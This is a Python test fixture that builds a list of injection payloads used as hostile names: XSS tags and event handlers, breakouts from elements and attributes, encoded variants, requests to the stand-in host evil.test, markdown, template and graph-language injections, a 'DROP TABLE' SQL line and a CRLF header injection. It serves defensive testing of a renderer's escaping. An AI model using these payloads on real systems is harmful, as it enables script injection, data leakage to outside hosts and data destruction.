"""Names that try to become something else. Each calls ``fired(n)`` or asks ``http://evil.test/n`` if it succeeds."""

from __future__ import annotations

_TEMPLATES = (
    # Elements that run a script
    "<script>CALL</script>",
    "</script><script>CALL</script>",
    "<img src=x onerror=CALL>",
    "<img src=x onerror='CALL'>",
    "<IMG SRC=x OnErRoR=CALL>",
    "<img/src=x/onerror=CALL>",
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "<svg><set attributeName=x onbegin=CALL></svg>",
    "<body onload=CALL>",
    "<iframe srcdoc='<script>CALL</script>'></iframe>",
    "<iframe src='javascript:CALL'></iframe>",
    "<iframe onload=CALL></iframe>",
    "<object data='javascript:CALL'></object>",
    "<embed src='javascript:CALL'>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<input autofocus onfocus=CALL>",
    "<details open ontoggle=CALL>x</details>",
    "<marquee onstart=CALL>x</marquee>",
    "<style onload=CALL>x{}</style>",
    "<a href='javascript:CALL' id=go>x</a><script>go.click()</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CALL>",
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<form><button formaction='javascript:CALL' autofocus onfocus=CALL>x",
    "<template><img src=x onerror=CALL></template><img src=x onerror=CALL>",
    "<xmp></xmp><img src=x onerror=CALL>",
    # Ways out of an element or an attribute
    "\"><img src=x onerror=CALL>",
    "'><img src=x onerror=CALL>",
    "\" onload=\"CALL\" x=\"",
    "' onload='CALL' x='",
    "\" autofocus onfocus=CALL tabindex=1 x=\"",
    "</title><script>CALL</script>",
    "</desc></svg><img src=x onerror=CALL>",
    "</text><script>CALL</script>",
    "</style><img src=x onerror=CALL>",
    "</textarea><img src=x onerror=CALL>",
    "</code></td></table><img src=x onerror=CALL>",
    "--><img src=x onerror=CALL><!--",
    "]]><img src=x onerror=CALL>",
    "<![CDATA[<img src=x onerror=CALL>]]>",
    "<?xml version='1.0'?><img src=x onerror=CALL>",
    "<!DOCTYPE x [<!ENTITY e 'y'>]><img src=x onerror=CALL>",
    # Encoded
    "&lt;img src=x onerror=CALL&gt;",
    "&#60;img src=x onerror=CALL&#62;",
    "%3Cimg src=x onerror=CALL%3E",
    "\\u003cimg src=x onerror=CALL\\u003e",
    "+ADw-img src=x onerror=CALL+AD4-",
    "\x00<img src=x onerror=CALL>",
    "<\u202eimg src=x onerror=CALL>",
    "\u2066<img src=x onerror=CALL>\u2069",
    "＜img src=x onerror=CALL＞",
    # Requests
    "<img src=http://evil.test/{n}>",
    "<link rel=stylesheet href=http://evil.test/{n}>",
    "<style>@import 'http://evil.test/{n}';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/{n}'>",
    "<base href=http://evil.test/{n}>",
    "<svg><image href=http://evil.test/{n} /></svg>",
    "x{} * { background: url(http://evil.test/{n}) }",
    # Other languages
    "$x$",
    "$$\\href{javascript:CALL}{x}$$",
    "\\(\\unicode{x}\\)",
    "[x](javascript:CALL) **b** `c`",
    "![x](http://evil.test/{n})",
    "{{ CALL }} {% x %} ${CALL}",
    "\"]; evil [label=\"",
    "\\\"]; evil [URL=\"javascript:CALL\"",
    "<<b>x</b>>",
    "\\N\\G\\l\\n\\",
    "'; DROP TABLE steps; --",
    "\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=CALL>",
)  # fmt: skip

PAYLOADS = tuple(text.replace("CALL", "fired({n})").replace("{n}", str(n)) for n, text in enumerate(_TEMPLATES))


def batches(count: int) -> list[tuple[str, ...]]:
    """All names in so many groups, for what takes long to show and shows several."""
    return [PAYLOADS[start::count] for start in range(count)]
